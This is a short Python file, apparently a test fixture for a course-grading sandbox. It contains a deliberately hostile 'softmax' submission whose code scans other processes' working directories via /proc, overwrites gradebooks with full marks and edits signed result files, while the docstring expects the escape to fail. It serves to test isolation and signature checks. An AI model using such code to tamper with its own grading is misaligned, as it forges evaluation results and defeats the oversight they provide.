"""In a class batch, softmax looks for the results folder through the working directories of the
other processes (/proc/PID/cwd) and rewrites the gradebook and every signed result it finds,
giving itself full marks; softmax itself is wrong.

The worker cannot see other processes' folders or write outside its own; a result edited by
hand would fail ``grade check-results`` anyway (HMAC under the teacher's key).

Expected: 7.1 failed — неверны
"""

import os
from pathlib import Path

import numpy as np


def _gradebooks():
    try:
        pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    except OSError:
        return []
    found = []
    for pid in pids:
        try:
            found += list(Path(f"/proc/{pid}/cwd").glob("*/gradebook.csv"))
        except OSError:
            pass
    return found


def softmax(logits):
    for gradebook in _gradebooks():
        try:
            gradebook.write_text("student,ex07_softmax_ce,total,max,status\nforger,15,15,15,ok\n")
            print(f"ESCAPED: rewrote {gradebook}")
            for result in gradebook.parent.glob("*/*.json"):
                result.write_text(result.read_text().replace('"score": 0', '"score": 15'))
        except OSError:
            pass
    return np.zeros(logits.shape)
